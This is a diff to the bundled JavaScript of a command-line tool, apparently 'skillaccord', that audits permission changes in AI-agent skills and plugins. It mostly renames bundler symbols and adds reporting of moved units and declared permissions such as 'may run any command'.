@@ -1,5 +1,5 @@
 import { i as __toESM, n as __exportAll, r as __require, t as __commonJSMin } from "./rolldown-runtime.js";
-import { accessSync, closeSync, constants, existsSync, fstatSync, lstatSync, openSync, readFileSync, readSync, readdirSync, readlinkSync, realpathSync, statSync, unlinkSync, writeFileSync } from "node:fs";
+import { accessSync, closeSync, constants, existsSync, fstatSync, lstatSync, mkdirSync, openSync, readFileSync, readSync, readdirSync, readlinkSync, realpathSync, renameSync, rmSync, rmdirSync, statSync, unlinkSync, writeFileSync } from "node:fs";
 import { basename, delimiter, dirname, extname, isAbsolute, join, parse, posix, relative, resolve, sep } from "node:path";
 import { parseArgs } from "node:util";
 import { createHash, randomBytes } from "node:crypto";
@@ -7,7 +7,7 @@ import { gzipSync } from "node:zlib";
 import { isUtf8 } from "node:buffer";
 import { setImmediate } from "node:timers/promises";
 import { spawn } from "node:child_process";
-import { tmpdir } from "node:os";
+import { hostname, tmpdir } from "node:os";
 // src/model/tool.ts
 const tool = {
 	name: "skillaccord",
@@ -112,7 +112,7 @@ function resolve$1(folder, reference) {
 const invisible = /[\p{Cc}\p{Default_Ignorable_Code_Point}\u2028\u2029\ufff9-\ufffb\p{Surrogate}]/gu;
 const joinsEmoji = /(?:[\p{Extended_Pictographic}\p{Emoji_Modifier}]|\ufe0f)$/u;
 const emoji = /[\p{Extended_Pictographic}\p{Emoji_Modifier}]$/u;
-const escapes$3 = {
+const escapes$4 = {
 	"\n": "\\n",
 	"\r": "\\r",
 	"	": "\\t"
@@ -120,7 +120,7 @@ const escapes$3 = {
 function escapeInvisible(text) {
 	return text.replace(invisible, (character, offset) => {
 		if (isInEmoji(character, text, offset)) return character;
-		return escapes$3[character] ?? escapeCodePoint(character.codePointAt(0) ?? 0);
+		return escapes$4[character] ?? escapeCodePoint(character.codePointAt(0) ?? 0);
 	});
 }
 function isInEmoji(character, text, offset) {
@@ -171,24 +171,24 @@ function uriPath(path) {
 }
 // src/report/inert.ts
 const unprintable = /[^\t\n -~]/;
-const command$2 = /^[\t ]*::|##\w*\[/m;
+const command$4 = /^[\t ]*::|##\w*\[/m;
 const annotation = /^::(?:error|warning|notice) (?:file|line|title)=(?!.*##\w*\[)/;
 const painted = /(\u001b\[[\d;]*m)/;
 const linked = /(\u001b\]8;;(?:https:\/\/[\w./%~+-]*)?\u001b\\)/;
 const tab = /(\t)/;
 const patchBytes = /([\t\ufeff]|\r$)/;
 function makeInert(text, allowed = {}) {
-	if (!unprintable.test(text) && !command$2.test(text)) return text;
+	if (!unprintable.test(text) && !command$4.test(text)) return text;
 	return text.split("\n").map((line) => makeLineInert(line, allowed)).join("\n");
 }
 function makeLineInert(line, { colour, hyperlinks, kind }) {
 	const isAnnotation = kind === "annotations" && annotation.test(line);
-	const inside = (text) => plain$3(text, kind === "patch" ? patchBytes : tab);
+	const inside = (text) => plain$4(text, kind === "patch" ? patchBytes : tab);
 	const withColours = (text) => colour ? exceptAt(text, painted, inside) : inside(text);
 	const escaped = hyperlinks ? exceptAt(line, linked, withColours) : withColours(line);
 	return isAnnotation ? escaped : neutralizeCommands(escaped);
 }
-function plain$3(text, separator) {
+function plain$4(text, separator) {
 	return exceptAt(text, separator, escapeInvisible);
 }
 function exceptAt(text, separator, change) {
@@ -231,9 +231,9 @@ function errorCode(cause) {
 	return cause instanceof Error && "code" in cause ? String(cause.code) : void 0;
 }
 // src/model/text/suggest.ts
-const maxLength$11 = 64;
+const maxLength$12 = 64;
 function suggest(text, candidates, limit = Math.max(1, Math.floor(text.length / 3))) {
-	if (text.length > maxLength$11) return void 0;
+	if (text.length > maxLength$12) return void 0;
 	let best;
 	let bestDistance = limit + 1;
 	for (const candidate of candidates) {
@@ -464,7 +464,8 @@ const policyKeyNames = {
 	hooks: "hooks",
 	mcp: "mcp",
 	implicitInvocation: "implicit-invocation",
-	unpinned: "unpinned"
+	unpinned: "unpinned",
+	unknown: "unknown"
 };
 // src/cli/gate-options.ts
 const gateOptions = [
@@ -664,9 +665,9 @@ function groupTools(changes) {
 	return [...groupBy(changes.map((change, index) => ({
 		change,
 		index
-	})), ({ change, index }) => keyOf$13(change) ?? String(index)).values()].flatMap((group) => joinChanges(group.map(({ change }) => change)));
+	})), ({ change, index }) => keyOf$14(change) ?? String(index)).values()].flatMap((group) => joinChanges(group.map(({ change }) => change)));
 }
-function keyOf$13({ change, power, previous, isSameCommand }) {
+function keyOf$14({ change, power, previous, isSameCommand }) {
 	const { feature, kind, subject, reach, unit, at, trigger } = power;
 	if (!listed$1.has(feature) || previous || isSameCommand || reach !== "tool") return null;
 	if (power.remark !== void 0 || power.pin) return null;
@@ -727,22 +728,37 @@ const connections = [
 	"plain",
 	"unknown"
 ];
-function isWidening({ change, power }) {
+const listedReaches = [
+	"command",
+	"path",
+	"domain",
+	"variable"
+];
+const program = [
+	"pin",
+	"programs",
+	"runs"
+];
+const receiver = [
+	"server",
+	"entry",
+	"variable",
+	"receiver"
+];
+[...program, ...receiver], [...program, ...receiver], [...program], [...program], [...program], [...program], [...program], [...program], [...program, ...receiver];
+function isWidening({ change, power, ofUnit }) {
+	if (change === "moved" || ofUnit === "removed") return false;
 	if (change === "undecided") return true;
 	return change === "gained" !== (power.kind === "guard");
 }
 function unitKey({ kind, root }) {
 	return `${kind}\0${root}`;
 }
-function deniedPower({ kind, feature, subject, scope, trigger }) {
-	return [
-		"grant",
-		kind,
-		feature,
-		subject,
-		scope,
-		trigger.event ?? trigger.start
-	].join("\0");
+function aboutUnit(unit) {
+	return `unit\0${unitKey(unit)}`;
+}
+function deniedPower(power) {
+	return `grant\0${aboutPower(power)}`;
 }
 function aboutPower({ kind, feature, subject, scope, trigger }) {
 	return [
@@ -758,13 +774,15 @@ const reportedChanges = memoize((report) => {
 	const { powers, findings } = report;
 	if (powers.length === 0) return [];
 	const tools = toolFindings(findings);
-	const free = groupBy(findings.filter(({ category }) => category === "privilege"), ({ about, at }) => keyOf$12(about, at.path));
-	return groupTools(powers).flatMap((change) => {
+	const newUnits = new Set(findings.flatMap(({ topic, about }) => topic === "new-unit" ? [about] : []));
+	const free = groupBy(findings.filter(({ category }) => category === "privilege"), ({ about, at }) => keyOf$13(about, at.path));
+	return groupTools(powers.filter(({ power }) => power.feature !== "declared")).flatMap((change) => {
 		const { power } = change;
 		if (!isWidening(change)) return [{
 			change,
 			finding: null
 		}];
+		if (newUnits.has(aboutUnit(power.unit))) return [];
 		if (isAllowedTool(change)) {
 			const { root } = power.unit;
 			return tools.described.has(root) ? [] : [{
@@ -774,11 +792,11 @@ const reportedChanges = memoize((report) => {
 		}
 		return [{
 			change,
-			finding: free.get(keyOf$12(aboutPower(power), power.at.path))?.shift() ?? null
+			finding: free.get(keyOf$13(aboutPower(power), power.at.path))?.shift() ?? null
 		}];
 	});
 });
-function keyOf$12(about, path) {
+function keyOf$13(about, path) {
 	return `${about}\0${path}`;
 }
 function isAllowedTool({ power }) {
@@ -791,7 +809,7 @@ function toolFindings(findings) {
 		const { skill, category, after } = finding;
 		const topic = finding.topic;
 		if (skill === null) continue;
-		if (topic === "new-skill") {
+		if (topic === "new-unit") {
 			if ((Array.isArray(after) ? after : []).map((item) => Object(item).kind).every((kind) => kind === "allowed-tools")) reported.set(skill, finding);
 			else described.add(skill);
 		} else if (topic === "allowed-tools" && category === "privilege") reported.set(skill, finding);
@@ -821,7 +839,7 @@ function uncountedList({ state }, scope) {
 }
 function countedList(finding, isReported) {
 	const { category, severity, bump } = finding;
-	if (isReported || finding.topic === "new-skill") return "permissions";
+	if (isReported || finding.topic === "new-unit") return "permissions";
 	if (severity === "note") return isSumOfBreaks(finding) ? "sums" : "notes";
 	return category === "privilege" && bump !== null ? "permissions" : "problems";
 }
@@ -1528,9 +1546,9 @@ function isBreakOfCallers({ bump, category }) {
 	return bump === "major" && category !== "privilege";
 }
 function subjectsOf(report) {
-	return [...groupBy(decisiveFindings(report), (finding) => keyOf$11(finding, report)).values()].map((findings) => subjectOf$1(findings, report)).sort((a, b) => causes.indexOf(a.cause) - causes.indexOf(b.cause) || b.findings.length - a.findings.length || compareNatural(a.name, b.name));
+	return [...groupBy(decisiveFindings(report), (finding) => keyOf$12(finding, report)).values()].map((findings) => subjectOf$2(findings, report)).sort((a, b) => causes.indexOf(a.cause) - causes.indexOf(b.cause) || b.findings.length - a.findings.length || compareNatural(a.name, b.name));
 }
-function keyOf$11(finding, report) {
+function keyOf$12(finding, report) {
 	if (finding.skill !== null) return `skill\0${finding.skill}`;
 	const plugin = versionedPlugin(finding, report);
 	return plugin ? unitKey(plugin) : `file\0${finding.at.path}`;
@@ -1539,7 +1557,7 @@ function versionedPlugin({ category, skill, at }, { units }) {
 	if (category !== "version" || skill !== null) return void 0;
 	return units.find(({ versions = [] }) => versions.some((version) => version.at.path === at.path && version.at.range?.start.line === at.range?.start.line));
 }
-function subjectOf$1(findings, report) {
+function subjectOf$2(findings, report) {
 	const [first] = findings;
 	if (first.skill !== null) {
 		const skill = skillsByRoot$1(report).get(first.skill) ?? null;
@@ -1960,6 +1978,7 @@ const verbs$1 = {
 	secret: "passes on",
 	install: "installs",
 	delegate: "delegates to",
+	effect: "has the effect",
 	guard: "limits"
 };
 function powerWords(power) {
@@ -1976,7 +1995,7 @@ function powerWords(power) {
 	].filter((part) => !isEmpty$3(part));
 	return {
 		verb: clause ?? featureVerb(power) ?? words(verbs$1[kind]),
-		object: clause || scope === "" || isNamed$1(power) ? nothing$2 : msg`${object}`,
+		object: clause || scope === "" || isNamed$2(power) ? nothing$2 : msg`${object}`,
 		when: join$1(when, " "),
 		remarks: remarksOf(power)
 	};
@@ -1987,7 +2006,22 @@ const unwritten = [
 	"every host",
 	"an unknown source"
 ];
-function objectOf({ scope, reach }) {
+const unlimited$1 = {
+	run: "any command",
+	read: "any file",
+	write: "any file",
+	net: "any host",
+	secret: "secrets"
+};
+const declaredVerbs = {
+	run: "may run",
+	read: "may read",
+	write: "may write",
+	net: "may reach",
+	secret: "may read"
+};
+function objectOf({ kind, feature, scope, reach }) {
+	if (feature === "declared" && scope === "*") return words(unlimited$1[kind] ?? "anything");
 	const own = reach === "any" || reach === "unknown" ? unwritten.find((known) => known === scope) : void 0;
 	return own === void 0 ? scopePart(scope) : words(own);
 }
@@ -2019,7 +2053,10 @@ function receiverWords({ receiver, server, entry }) {
 }
 function featureVerb(power) {
 	const { kind, feature, subject, entry, variable, remark } = power;
+	const declared = feature === "declared" ? declaredVerbs[kind] : void 0;
+	if (declared !== void 0) return words(declared);
 	if (variable !== void 0) return words("passes");
+	if (feature === "unknown-field") return words("has the unknown field");
 	if (feature === "permission-mode") return msg`sets ${code$1(subject)} to`;
 	if (entry?.kind === "program") return words("adds the program");
 	if (feature === "source") return entry ? msg`takes ${words(entry.kind)} ${namePart(entry.name)} from` : words("downloads from");
@@ -2029,7 +2066,7 @@ function featureVerb(power) {
 	if (feature === "mcp-server" && kind === "mcp") return serverVerb(power);
 	return feature === "agent-tools" && kind === "delegate" ? words("may use") : null;
 }
-function isNamed$1({ feature, entry, scope }) {
+function isNamed$2({ feature, entry, scope }) {
 	return feature === "mcp-server" && entry?.name === scope;
 }
 function serverVerb(power) {
@@ -2037,7 +2074,7 @@ function serverVerb(power) {
 	const start = connection || entry?.kind === "connector" ? "connects to" : "starts";
 	const { kind = "MCP server", name = "" } = entry ?? {};
 	if (name === "") return words(`${start} ${kind}`);
-	return msg`${words(start)} ${words(kind)} ${namePart(name)}${words(isNamed$1(power) ? "" : ":")}`;
+	return msg`${words(start)} ${words(kind)} ${namePart(name)}${words(isNamed$2(power) || power.scope === "" ? "" : ":")}`;
 }
 function guardVerb({ feature, subject, trigger }) {
 	if (feature === "setting") return words("sets");
@@ -2115,7 +2152,7 @@ function programWords([first] = []) {
 	if (!first) return [];
 	return [first.change === "bytes" ? words("the files that it runs changed") : programChange(first)];
 }
-function ofPower({ change: powerChange, finding }, mayBlock) {
+function ofPower({ change: powerChange, finding }, mayBlock = false) {
 	const { change, power, previous, isSameCommand = false, programs } = powerChange;
 	const { verb, object, when, remarks } = powerWords(power);
 	const isOfBase = change === "lost" || change === "undecided" && previous === null;
@@ -2125,13 +2162,14 @@ function ofPower({ change: powerChange, finding }, mayBlock) {
 		...programWords(programs),
 		...change === "gained" && power.isDefault ? [words("a limit was removed")] : [],
 		...mayBlock ? [msg`may block ${blockedWords(power.trigger)}`] : [],
+		...change === "moved" && previous ? [movedFrom(previous)] : [],
 		...isSameCommand ? [] : previousOf$1(powerChange)
 	], "; ");
 	const own = verb;
 	const subject = object;
 	return {
 		change,
-		isWider: isWidening(powerChange),
+		isWider: isWidening(powerChange) || change === "moved",
 		unit: power.unit,
 		isCertain: change !== "undecided" || isSameCommand,
 		isSentence: false,
@@ -2146,16 +2184,20 @@ function ofPower({ change: powerChange, finding }, mayBlock) {
 		finding
 	};
 }
+function movedFrom({ unit: { kind, name } }) {
+	return msg`moved from ${words(kind)} ${namePart(name)}`;
+}
 function previousOf$1({ power, previous }) {
 	if (previous === null || power.kind === "guard") return [];
 	const { object, when } = powerWords(previous);
 	if (previous.scope !== power.scope) return [plainText$1(object) === plainText$1(powerWords(power).object) ? words("its text changed") : msg`was ${object}`];
 	const [before, now] = [when, powerWords(power).when];
-	return isEmpty$3(before) || keyOf$10(before) === keyOf$10(now) ? [] : [msg`was ${before}`];
+	return isEmpty$3(before) || keyOf$11(before) === keyOf$11(now) ? [] : [msg`was ${before}`];
 }
 function ofFinding(finding, report) {
-	const { skill: root, at } = finding;
+	const { skill: root, at, about, phrase } = finding;
 	const skill = skillsByRoot$1(report).get(root);
+	const added = report.powers.find(({ power }) => aboutUnit(power.unit) === about)?.power.unit;
 	return {
 		change: "gained",
 		isWider: true,
@@ -2163,21 +2205,21 @@ function ofFinding(finding, report) {
 			kind: "skill",
 			name: skill.name,
 			root: skill.root
-		} : null,
+		} : added ?? null,
 		isCertain: true,
 		isSentence: true,
-		verb: unstopped(finding.message).parts,
+		verb: added && phrase ? phrase.parts : unstopped(finding.message).parts,
 		objects: [],
 		rest: [],
 		at,
 		finding
 	};
 }
-function keyOf$10({ parts }) {
+function keyOf$11({ parts }) {
 	return JSON.stringify(parts);
 }
 // src/report/facts/permission-rows.ts
-function permissionRows(permissions) {
+function permissionRows$2(permissions) {
 	return [...groupBy([...groupBy(permissions, (permission) => JSON.stringify([
 		rowKey(permission),
 		permission.unit,
@@ -2188,6 +2230,7 @@ function permissionRows(permissions) {
 const changes$1 = [
 	"gained",
 	"undecided",
+	"moved",
 	"lost"
 ];
 function rowKey({ change, verb, rest, finding }) {
@@ -2204,7 +2247,7 @@ function objectKey({ finding, objects }) {
 }
 function rowOf(group) {
 	const [first] = group;
-	const objects = new Map(group.flatMap((each) => each.objects).map((each) => [keyOf$10(each), each]));
+	const objects = new Map(group.flatMap((each) => each.objects).map((each) => [keyOf$11(each), each]));
 	const places = new Map(group.map(({ at }) => [placeKey(at), at]));
 	return {
 		first,
@@ -2260,11 +2303,11 @@ const clauses = {
 		many: (amount) => msg`The versions of ${amount} skills go back`
 	},
 	permission: {
-		one: (subject) => msg`${named$1(subject)} gains ${permissions$1(subject.findings.length)}`,
+		one: (subject) => msg`${named$1(subject)} gains ${permissions(subject.findings.length)}`,
 		many: (amount) => msg`${amount} skills gain permissions`
 	},
 	policy: {
-		one: (subject) => msg`The policy denies ${permissions$1(subject.findings.length)} of ${named$1(subject)}`,
+		one: (subject) => msg`The policy denies ${permissions(subject.findings.length)} of ${named$1(subject)}`,
 		many: (amount) => msg`The policy denies permissions of ${amount} skills`
 	},
 	"plugin-version": {
@@ -2276,7 +2319,7 @@ const clauses = {
 		many: (amount) => msg`${amount} lock entries are outdated`
 	}
 };
-function permissions$1(amount) {
+function permissions(amount) {
 	return amount === 1 ? words("a permission") : count(amount, "permission");
 }
 function named$1({ kind, name }) {
@@ -2361,7 +2404,7 @@ function gainClause(outcome) {
 	return msg`${owners.length > 2 ? ownerCount(owners) : list(owners.map(unitName))} ${gainVerb(outcome, owners.length === 1)}`;
 }
 function gainVerb({ gains }, isOne) {
-	return msg`${words(gains.every(({ first }) => !first.isCertain) ? "may gain" : isOne ? "gains" : "gain")} ${isOne ? permissions$1(gains.length) : words("permissions")}`;
+	return msg`${words(gains.every(({ first }) => !first.isCertain) ? "may gain" : isOne ? "gains" : "gain")} ${isOne ? permissions(gains.length) : words("permissions")}`;
 }
 function ownerCount(owners) {
 	const kinds = new Set(owners.map(({ kind }) => kind));
@@ -2393,7 +2436,7 @@ function problems(findings) {
 const outcomeOf = memoize((report) => {
 	const decisive = new Set(decisiveFindings(report));
 	const failing = subjectsOf(report);
-	const gains = permissionRows(permissionsOf(report)).filter(({ first, findings }) => first.isWider && findings.some((each) => each.severity !== "note" && !decisive.has(each)));
+	const gains = permissionRows$2(permissionsOf(report)).filter(({ first, findings }) => first.isWider && findings.some((each) => each.severity !== "note" && !decisive.has(each)));
 	const { problems } = countedIn(report);
 	const warnings = problems.filter((finding) => finding.state === "new" && !decisive.has(finding));
 	const outcome = {
@@ -2665,6 +2708,7 @@ function catalogueInNaturalOrder({ skills, units }) {
 const changes = [
 	"gained",
 	"undecided",
+	"moved",
 	"lost"
 ];
 function findingKey({ category, at }) {
@@ -2833,7 +2877,7 @@ const ranks$2 = [
 const minEqual = 4;
 const maxNamed$2 = 3;
 function skillsTable(report) {
-	const rows = skillRows(report).filter(({ mark, reason }) => mark !== "pass" || reason.length > 0).sort((a, b) => ranks$2.indexOf(a.mark) - ranks$2.indexOf(b.mark));
+	const rows = skillRows$1(report).filter(({ mark, reason }) => mark !== "pass" || reason.length > 0).sort((a, b) => ranks$2.indexOf(a.mark) - ranks$2.indexOf(b.mark));
 	if (rows.length < 2) return [];
 	return [{
 		kind: "table",
@@ -2880,7 +2924,7 @@ function nameCell(skill) {
 	}] : [namePart(name)];
 	return previous === null ? label : line`${label} (was ${namePart(previous)})`;
 }
-function skillRows(report) {
+function skillRows$1(report) {
 	const decisive = new Set(decisiveFindings(report));
 	const gained = new Set(outcomeOf(report).gains.flatMap(({ findings }) => findings));
 	const bySkill = groupBy([...report.findings, ...report.changes].filter(({ state }) => state !== "existing"), ({ skill }) => skill);
@@ -3100,7 +3144,7 @@ function titleBlocks(report, noBaseReason) {
 	];
 }
 function permissionBlocks(report) {
-	const rows = permissionRows(permissionsOf(report)).filter(({ first }) => first.isWider);
+	const rows = permissionRows$2(permissionsOf(report)).filter(({ first }) => first.isWider);
 	const reported = rows.filter(({ findings }) => findings.some(asksForLook));
 	const others = without(rows, reported);
 	const accepted = reported.every(({ findings }) => findings.every(isWarning)) && hasTargetBranch(report) ? line` (accepted by merging)` : [];
@@ -3113,7 +3157,7 @@ function permissionBlocks(report) {
 	}], ...others.length === 0 ? [] : [permissionFold(others)]];
 }
 function asksForLook(finding) {
-	return finding.severity !== "note" || finding.topic === "new-skill";
+	return finding.severity !== "note" || finding.topic === "new-unit";
 }
 function isWarning({ severity }) {
 	return severity !== "error";
@@ -3152,7 +3196,7 @@ function permissionItem(row) {
 	};
 }
 function distinct(messages) {
-	return [...new Map(messages.map((message) => [keyOf$10(message), message])).values()];
+	return [...new Map(messages.map((message) => [keyOf$11(message), message])).values()];
 }
 function worstOf(findings) {
 	return worstFirst$1(findings)[0]?.severity;
@@ -3229,7 +3273,7 @@ function cellsOf(excerpt, from, to) {
 	let index = begin;
 	let column = 0;
 	for (const character of near) {
-		const { text, columns } = isPlain$1(character) ? plain$2(character, near, index - begin) : isInEmoji(character, near, index - begin) ? {
+		const { text, columns } = isPlain$1(character) ? plain$3(character, near, index - begin) : isInEmoji(character, near, index - begin) ? {
 			text: character,
 			columns: 0
 		} : expandCharacter(character, column);
@@ -3251,7 +3295,7 @@ function cellsOf(excerpt, from, to) {
 function isPlain$1(character) {
 	return character >= " " && character <= "~";
 }
-function plain$2(character, near, offset) {
+function plain$3(character, near, offset) {
 	const text = character === "#" ? neutralizeCommands(near.slice(offset)).slice(0, 6) : character;
 	return text === "\\u0023" ? {
 		text,
@@ -3407,7 +3451,7 @@ function paintPieces(all, { colour }) {
 		return href === void 0 ? painted : `\u001b]8;;${href}\u001b\\${painted}\u001b]8;;\u001b\\`;
 	}).join("");
 }
-function plain$1(text, ...tones) {
+function plain$2(text, ...tones) {
 	return {
 		text,
 		tones
@@ -3439,7 +3483,7 @@ function positionOf({ amount, places }) {
 	return start ? `${start.line}:${start.column}` : "-";
 }
 function fileLines({ path, findings }, layout, style) {
-	return [paintPieces([plain$1((path === null ? null : escapeInvisible(style.formatPath(path))) ?? (findings.some(({ amount }) => amount > 1) ? "In several places" : "The repository"), "strong")], style), ...findings.flatMap((entry) => entryLines(entry, path, {
+	return [paintPieces([plain$2((path === null ? null : escapeInvisible(style.formatPath(path))) ?? (findings.some(({ amount }) => amount > 1) ? "In several places" : "The repository"), "strong")], style), ...findings.flatMap((entry) => entryLines(entry, path, {
 		layout,
 		style
 	}))];
@@ -3452,7 +3496,7 @@ function entryLines(entry, path, context) {
 		...helpLines(entry, context),
 		...entry.notes.flatMap(({ message, at }) => {
 			const place = at ? placeText(at, context.style) : null;
-			return asideLines("note", [...place === null ? [] : [plain$1(`${place}: `, "faint")], ...messagePieces(message)], context);
+			return asideLines("note", [...place === null ? [] : [plain$2(`${place}: `, "faint")], ...messagePieces(message)], context);
 		})
 	];
 }
@@ -3463,15 +3507,15 @@ function helpLines({ help }, context) {
 function messageLines(entry, { layout, style }) {
 	const { severity, rule, isFixable, state } = entry;
 	const position = positionOf(entry).padStart(layout.position + 2);
-	const level = paintPieces([plain$1(severity, severity)], style);
+	const level = paintPieces([plain$2(severity, severity)], style);
 	const id = rulePiece(rule, style, isFixable ? " [*]" : "");
-	const suffix = state === "new" ? [] : [plain$1(` (${state})`, "faint")];
+	const suffix = state === "new" ? [] : [plain$2(` (${state})`, "faint")];
 	const message = [...messagePieces(entry.message, ["strong"]), ...suffix];
 	const margin = layout.position + 2 + 2 + layout.severity + 2;
 	if (style.width - margin < minMessage) {
 		const lines = wrapPieces([
 			...message,
-			plain$1("  "),
+			plain$2("  "),
 			id
 		], Math.max(style.width - 4, 20));
 		return [`${position}  ${level}`, ...lines.map((line) => `    ${paintPieces(line, style)}`)];
@@ -3481,7 +3525,7 @@ function messageLines(entry, { layout, style }) {
 	if (margin + columnsOf(message) + gap + columnsOf([id]) <= style.width) return [`${start}${paintPieces(message, style)}${" ".repeat(gap)}${paintPieces([id], style)}`];
 	return wrapPieces([
 		...message,
-		plain$1(" "),
+		plain$2(" "),
 		id
 	], style.width - margin).map((line, index) => {
 		const text = paintPieces(line, style);
@@ -3499,7 +3543,7 @@ function frameLines({ frame: source, severity }, context) {
 	const { source: text, marker } = frame(source.excerpt, source.range, width);
 	const line = String(source.range.start.line).padStart(Math.max(gutter - 1, layout.position));
 	const blank = " ".repeat(line.length);
-	return [`${paintPieces([plain$1(`${line} \u2502`, "faint")], style)} ${text}`, `${blank} ${paintPieces([plain$1("\u2502", "faint")], style)} ${paintPieces([plain$1(marker, severity)], style)}`];
+	return [`${paintPieces([plain$2(`${line} \u2502`, "faint")], style)} ${text}`, `${blank} ${paintPieces([plain$2("\u2502", "faint")], style)} ${paintPieces([plain$2(marker, severity)], style)}`];
 }
 const maxPlaces$6 = 8;
 function placeLines(entry, path, context) {
@@ -3508,12 +3552,12 @@ function placeLines(entry, path, context) {
 	const texts = places.map((at) => path === null ? placeText(at, context.style) : `line ${at.range?.start.line ?? 1}`);
 	const shown = [...new Set(texts)].slice(0, maxPlaces$6);
 	const more = amount - places.length + (texts.length > maxPlaces$6 ? texts.length - maxPlaces$6 : 0);
-	return asideLines("", [plain$1(`${shown.join(", ")}${more > 0 ? ` and ${more} more` : ""}`, "faint")], context);
+	return asideLines("", [plain$2(`${shown.join(", ")}${more > 0 ? ` and ${more} more` : ""}`, "faint")], context);
 }
 function asideLines(label, text, context) {
 	const { style } = context;
 	const indent = " ".repeat(indentOf$1(context));
-	return wrapPieces([...label === "" ? [] : [plain$1(`${label}: `, "faint")], ...text], Math.max(style.width - indent.length, 20)).map((line) => `${indent}${paintPieces(line, style)}`);
+	return wrapPieces([...label === "" ? [] : [plain$2(`${label}: `, "faint")], ...text], Math.max(style.width - indent.length, 20)).map((line) => `${indent}${paintPieces(line, style)}`);
 }
 // src/report/text/write-text.ts
 function writeText({ blocks }, style) {
@@ -3534,7 +3578,7 @@ function isShown({ audience }, { isVerbose }) {
 function blockGroups(block, style) {
 	switch (block.kind) {
 		case "heading": return [headingLines(block.line, style)];
-		case "paragraph": return [block.lines.flatMap((line) => wrapped(pieces(line, style, ["faint"]), style, ""))];
+		case "paragraph": return [block.lines.flatMap((line) => wrapped$1(pieces(line, style, ["faint"]), style, ""))];
 		case "steps": return [stepLines(block, style)];
 		case "list": return [listLines(block, style)];
 		case "table": return [tableLines(block, style)];
@@ -3556,7 +3600,7 @@ function detailsGroups({ title: line, blocks }, style) {
 function headingLines(line, style) {
 	const [mark, ...rest] = line;
 	const hasMark = typeof mark === "object" && mark.kind === "mark";
-	const lines = wrapped(pieces(hasMark ? rest : line, style, ["strong"]), style, hasMark ? "  " : "");
+	const lines = wrapped$1(pieces(hasMark ? rest : line, style, ["strong"]), style, hasMark ? "  " : "");
 	const [first = "", ...others] = lines;
 	if (!hasMark) return lines;
 	return [`${paintPieces([markPiece(mark.mark)], style)} ${first.slice(2)}`, ...others];
@@ -3567,7 +3611,7 @@ function title(line, style) {
 function titleLines(line, style) {
 	return line.length === 0 ? [] : [title(line, style)];
 }
-function wrapped(all, style, indent) {
+function wrapped$1(all, style, indent) {
 	return wrapPieces(all, Math.max(style.width - indent.length, 20)).map((line) => indent + paintPieces(line, style));
 }
 function stepLines({ title: line, steps }, style) {
@@ -3576,9 +3620,9 @@ function stepLines({ title: line, steps }, style) {
 	return [...titleLines(line, style), ...steps.flatMap((step, index) => {
 		const command = commands[index] ?? "";
 		const indent = " ".repeat(columns + 6);
-		const [first = "", ...rest] = wrapped(pieces(step.line, style), style, indent);
+		const [first = "", ...rest] = wrapped$1(pieces(step.line, style), style, indent);
 		const isLong = command.length > columns;
-		const start = `  ${paintPieces([plain$1(command, "strong")], style)}`;
+		const start = `  ${paintPieces([plain$2(command, "strong")], style)}`;
 		return isLong && first !== "" ? [
 			start,
 			first,
@@ -3601,30 +3645,30 @@ function itemRow({ mark, line, places = [], morePlaces = 0, severity, amount = 1
 	const more = places.length - shown.length + morePlaces;
 	const place = `${[...new Set(shown)].join(", ")}${more > 0 ? ` and ${more} more` : ""}`;
 	const level = amount > 1 ? `${amount} ${severity}s` : severity ?? "";
-	const sign = mark ? markPiece(mark) : plain$1("-", "faint");
+	const sign = mark ? markPiece(mark) : plain$2("-", "faint");
 	return {
 		mark: severity ? {
 			...sign,
 			tones: [severity]
 		} : sign,
 		text: pieces(line, style),
-		aside: [...place === "" ? [] : [plain$1(place, "faint")], ...severity ? [plain$1(`${place === "" ? "" : "   "}${level}`, severity)] : []],
-		below: [...help.map((text) => [plain$1("help: ", "faint"), ...messagePieces(text)]), ...notes.map(({ message, at }) => [plain$1(at ? `note: ${placeText(at, style)}: ` : "note: ", "faint"), ...messagePieces(message)])]
+		aside: [...place === "" ? [] : [plain$2(place, "faint")], ...severity ? [plain$2(`${place === "" ? "" : "   "}${level}`, severity)] : []],
+		below: [...help.map((text) => [plain$2("help: ", "faint"), ...messagePieces(text)]), ...notes.map(({ message, at }) => [plain$2(at ? `note: ${placeText(at, style)}: ` : "note: ", "faint"), ...messagePieces(message)])]
 	};
 }
 function rowLines(row, columns, style) {
-	const below = row.below.flatMap((pieces) => wrapped(pieces, style, "      "));
+	const below = row.below.flatMap((pieces) => wrapped$1(pieces, style, "      "));
 	return [...itemLines(row, columns, style), ...below];
 }
 function itemLines({ mark, text, aside }, columns, style) {
 	const sign = `  ${paintPieces([mark], style)} `;
 	const side = paintPieces(aside, style);
-	const [first = "", ...rest] = wrapped(text, style, "    ");
+	const [first = "", ...rest] = wrapped$1(text, style, "    ");
 	const fits = 4 + columns + 3 + columnsOf(aside) <= style.width;
 	const lines = [`${sign}${first.slice(4)}`, ...rest];
 	if (aside.length === 0) return lines;
 	if (fits) return [`${sign}${first.slice(4)}${" ".repeat(columns - columnsOf(text) + 3)}${side}`];
-	return [...lines, ...wrapped(aside, style, "    ")];
+	return [...lines, ...wrapped$1(aside, style, "    ")];
 }
 function tableLines(table, style) {
 	const used = table.columns.map((_, column) => table.rows.some((row) => (row[column]?.length ?? 0) > 0));
@@ -3641,7 +3685,7 @@ function tableLines(table, style) {
 		}).join("  ")}`;
 		const indent = 4 + widths.slice(0, row.length - 1).reduce((sum, width) => sum + width + 2, -2);
 		const isWide = style.width - indent >= 30;
-		const last = wrapped(row.at(-1) ?? [], style, " ".repeat(isWide ? indent : 6));
+		const last = wrapped$1(row.at(-1) ?? [], style, " ".repeat(isWide ? indent : 6));
 		const [first = "", ...rest] = last;
 		return isWide ? [`${left}  ${first.slice(indent)}`.trimEnd(), ...rest] : [left.trimEnd(), ...last];
 	});
@@ -3908,7 +3952,7 @@ function element(name, attributes, ...children) {
 	if (voidElements.has(name)) return { markup: `${open}/>` };
 	return { markup: `${open}>${children.map(markupOf).join("")}</${name}>` };
 }
-function table$2(titles, rows) {
+function table$3(titles, rows) {
 	return element("table", {}, element("thead", {}, element("tr", {}, ...titles.map((title) => element("th", { scope: "col" }, title)))), element("tbody", {}, ...rows.map((cells) => tableRow(cells, titles))));
 }
 function tableRow([first = "", ...others], titles) {
@@ -4001,7 +4045,7 @@ function scalars(value) {
 function nested$2(value) {
 	return value !== null && typeof value === "object" ? `(${scalars(value)})` : scalars(value);
 }
-function fieldsOf(value) {
+function fieldsOf$1(value) {
